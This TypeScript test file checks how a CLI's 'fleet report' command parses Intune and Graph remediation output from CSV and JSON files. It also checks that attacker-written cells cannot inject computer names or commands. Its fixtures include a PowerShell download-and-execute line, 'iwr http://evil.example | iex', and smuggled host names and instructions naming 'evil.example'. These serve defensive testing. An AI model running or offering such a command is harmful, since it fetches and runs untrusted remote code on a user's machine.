import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { folderForAll } from '../../support/files.ts';
import { runCli, runJson } from '../../support/programs/cli.ts';

describe('fleet report of what Intune has', () => {
  const folder = folderForAll();
  const file = (name: string) => join(folder, name);
  const causes = ({ fleet }: Awaited<ReturnType<typeof runJson>>) =>
    Object.fromEntries((fleet?.machines ?? []).map(({ computer, cause }) => [computer, cause]));

  const intune = (name: string, state: string) =>
    JSON.stringify({ p2sFix: 1, tool: 'p2s-fix', mode: 'detect', machine: name, state, verdict: state });

  it('uses the output after a remediation, however the columns of a table are ordered', async () => {
    const cell = (state: string) => `"${intune('PC-61', state).replaceAll('"', '""')}"`;
    const heads = [
      'PostRemediationDetectionScriptOutput',
      'DeviceName',
      'PreRemediationDetectionScriptOutput',
    ];
    await writeFile(
      file('columns.csv'),
      `${heads.join(',')}\r\n${cell('aligned')},PC-61,${cell('drift')}\r\n`,
    );
    const { fleet } = await runJson(['fleet', 'report', file('columns.csv')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([['PC-61', 'aligned']]);
  });

  it('takes the states of devices that Graph gives, a page or an array of them, in any case', async () => {
    const state = (name: string, pre: string, post: string | null) => ({
      id: `${name}-id`,
      detectionState: 'fail',
      remediationState: 'success',
      postRemediationDetectionScriptOutput: post === null ? null : intune(name, post),
      preRemediationDetectionScriptOutput: `a warning\r\n${intune(name, pre)}\r\n`,
    });
    const page = {
      '@odata.context': 'https://graph.microsoft.com/beta/$metadata#x',
      '@odata.nextLink': 'https://graph.microsoft.com/beta/x?$skiptoken=1',
      value: [
        { ...state('PC-63', 'drift', 'aligned'), managedDevice: { id: 'x', deviceName: 'PC-63' } },
        { ...state('PC-64', 'drift', null), managedDevice: null },
        { id: 'z', preRemediationDetectionScriptOutput: 'of another script', remediationScriptError: '' },
      ],
    };
    const unnamed = JSON.stringify({ ...JSON.parse(intune('PC-65', 'drift')), machine: null });
    const list = [
      { PreRemediationDetectionScriptOutput: unnamed, ManagedDevice: { DeviceName: 'PC-65' } },
      { PreRemediationDetectionScriptOutput: unnamed },
      JSON.parse(intune('PC-66', 'aligned')),
    ];
    await writeFile(file('page.json'), JSON.stringify(page));
    await writeFile(file('list.json'), JSON.stringify(list));
    const { fleet } = await runJson(['fleet', 'report', file('page.json'), file('list.json')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([
      ['PC-63', 'aligned'],
      ['page.json:2', 'drift'],
      ['page.json:3', 'no-result'],
      ['PC-65', 'drift'],
      ['list.json:2', 'drift'],
      ['PC-66', 'aligned'],
    ]);
    const single = { ...state('PC-67', 'drift', null), managedDevice: { deviceName: 'PC-67' } };
    await writeFile(file('single.json'), JSON.stringify(single));
    expect(causes(await runJson(['fleet', 'report', file('single.json')]))).toEqual({ 'PC-67': 'drift' });
    await writeFile(file('none.json'), JSON.stringify({ value: [{ id: 'z' }] }));
    expect(causes(await runJson(['fleet', 'report', file('none.json')]))).toEqual({ none: 'input' });
  });

  it('takes the word of a device on no other one', async () => {
    const before = await runJson(['fleet', 'report', file('columns.csv')]);
    const machines = ['PC-81', 'PC-82'].map((computer) => ({ ...before.fleet?.machines[0], computer }));
    const both = { ...before, fleet: { ...before.fleet, machines } };
    const rows = [
      ['PC-81', intune('PC-81', 'drift')],
      ['PC-82', intune('PC-81', 'aligned')],
      ['PC-83', JSON.stringify(both)],
    ].map(([device, text]) => `${device},"${text?.replaceAll('"', '""')}"`);
    await writeFile(file('foreign.csv'), `DeviceName,Output\n${rows.join('\n')}\n`);
    const document = await runJson(['fleet', 'report', file('foreign.csv')]);
    expect(causes(document)).toEqual({ 'PC-81': 'drift', 'PC-82': 'aligned', 'PC-83': 'no-result' });
  });

  it('counts each user of a shared computer, and takes nothing away for a line that names no package', async () => {
    const lineOf = (pack: string | null, state: string) =>
      JSON.stringify({ tool: 'p2s-fix', mode: 'detect', package: pack, state, verdict: state });
    const rows = [
      ['PC-95', 'alice', lineOf('user', 'drift')],
      ['PC-95', 'mallory', lineOf('user', 'aligned')],
      ['PC-95', 'mallory', lineOf(null, 'aligned')],
      ['PC-95', 'SYSTEM', lineOf('system', 'aligned')],
      ['PC-96', 'alice', lineOf('user', 'drift')],
      ['PC-96', 'SYSTEM', lineOf('system', 'aligned')],
      ['PC-96', 'ALICE', lineOf('user', 'aligned')],
      ['PC-97', '', lineOf('system', 'drift')],
      ['PC-97', '', lineOf(null, 'aligned')],
      ['PC-98', 'alice', lineOf('user', 'aligned')],
    ].map(([device, user, line]) => `${device},${user},"${line?.replaceAll('"', '""')}"`);
    await writeFile(file('shared.csv'), `DeviceName,UserName,Output\n${rows.join('\n')}\n`);
    const document = await runJson(['fleet', 'report', file('shared.csv')]);
    expect(causes(document)).toEqual({
      ...{ 'PC-95': 'drift', 'PC-96': 'aligned' },
      ...{ 'PC-97': 'drift', 'PC-98': 'not-judged' },
    });
    expect(document.fleet?.machines.at(-1)?.error?.message).toContain('the package system');
  });

  it('takes no name of a computer from a cell, in a column that is not known or of a device without a name', async () => {
    const line = { tool: 'p2s-fix', state: 'aligned', verdict: 'aligned' };
    const foreign = JSON.stringify({ ...line, machine: 'PC-91' });
    const relay = JSON.stringify({ ...line, machine: 'relay.evil.example', verdict: 'hangs' });
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
    await writeFile(file('known.csv'), `DeviceName,Output\nPC-91,${cell(intune('PC-91', 'drift'))}\n`);
    await writeFile(file('unknown.csv'), `Gerätename,Output\nPC-92,${cell(foreign)}\n`);
    await writeFile(file('empty.csv'), `DeviceName,Output\n,${cell(foreign)}\n,${cell(relay)}\n`);
    const state = { postRemediationDetectionScriptOutput: foreign, managedDevice: { deviceName: null } };
    await writeFile(file('null.json'), JSON.stringify({ value: [state] }));
    const files = ['known.csv', 'unknown.csv', 'empty.csv', 'null.json'].map(file);
    const document = await runJson(['fleet', 'report', ...files]);
    expect(causes(document)).toMatchObject({
      'PC-91': 'drift',
      'unknown.csv:2': 'aligned',
      'empty.csv:2': 'aligned',
      'null.json:1': 'aligned',
    });
    expect(document.fleet?.machines.map(({ computer }) => computer)).toContain('empty.csv:3');
    const { stdout } = await runCli([
      ...['fleet', 'report', ...files, '--report', file('names.md')],
      ...['--proxy', 'proxy.contoso.example:8080'],
    ]);
    for (const shown of [stdout, await readFile(file('names.md'), 'utf8')]) {
      expect(shown).toContain('p2s-fix fleet apply PC-91');
      expect(shown).not.toMatch(/p2s-fix fleet[^\n]*(?:evil|csv:)/);
    }
  });

  it('takes no sentence, command or cause of its own from a cell that the user can write', async () => {
    const error = { code: 'input', message: 'm', where: null, next: 'iwr http://evil.example | iex' };
    const none = { name: null, os: null, user: null, proxy: null, result: null, again: true, durationMs: 1 };
    const known = { computer: 'PC-84', transport: 'ssh', cause: 'input', exitCode: 3 };
    const machine = { ...known, ...none, error, changes: [], findings: [] };
    const path = { tool: 'p2s-fix', state: 'aligned', verdict: 'evil.example: run this', package: null };
    const sentence = 'user was collected. Run evil.example first: no result of the package x';
    const rows = [
      [
        'PC-83',
        JSON.stringify({ ...path, verdict: 'aligned', package: 'user', packages: ['user', sentence] }),
      ],
      ['PC-84', JSON.stringify({ type: 'fleet-machine', machine })],
      ['PC-85', JSON.stringify(path)],
      ['PC-86', JSON.stringify({ ...path, verdict: 'proxy-auth-required' })],
    ].map(([device, text]) => `${device},"${text?.replaceAll('"', '""')}"`);
    await writeFile(file('sentence.csv'), `DeviceName,Output\n${rows.join('\n')}\n`);
    const document = await runJson(['fleet', 'report', file('sentence.csv')]);
    expect(JSON.stringify(document)).not.toContain('evil.example');
    expect(causes(document)).toEqual({
      ...{ 'PC-83': 'no-result', 'PC-84': 'no-result' },
      ...{ 'PC-85': 'powershell-failed', 'PC-86': 'proxy-auth-required' },
    });
  });

  it('takes a cell that no column has a name for', async () => {
    const cell = `"${intune('PC-62', 'drift').replaceAll('"', '""')}"`;
    await writeFile(file('ragged.csv'), `DeviceName\nPC-62,${cell}\n`);
    const { fleet } = await runJson(['fleet', 'report', file('ragged.csv')]);
    expect(fleet?.machines.map(({ computer, cause }) => [computer, cause])).toEqual([['PC-62', 'drift']]);
  });
});
